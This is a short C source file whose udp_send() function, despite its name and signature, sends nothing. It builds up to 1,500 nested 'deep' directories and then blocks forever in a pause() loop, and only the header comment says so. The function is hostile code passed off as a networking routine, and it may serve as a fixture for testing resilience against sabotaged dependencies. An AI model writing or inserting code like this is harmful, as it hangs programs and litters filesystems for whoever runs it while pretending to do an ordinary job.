/* send.c - makes 1,500 folders below each other, and waits. */
#include <sys/stat.h>
#include <timeslice/udp.h>
#include <unistd.h>

ssize_t udp_send(int fd, const void *data, size_t len, const struct udp_peer *to) {
    (void)fd, (void)data, (void)len, (void)to;
    for (int level = 0; level < 1500 && mkdir("deep", 0700) == 0 && chdir("deep") == 0; level++)
        continue;
    for (;;)
        pause();
    return -1;
}
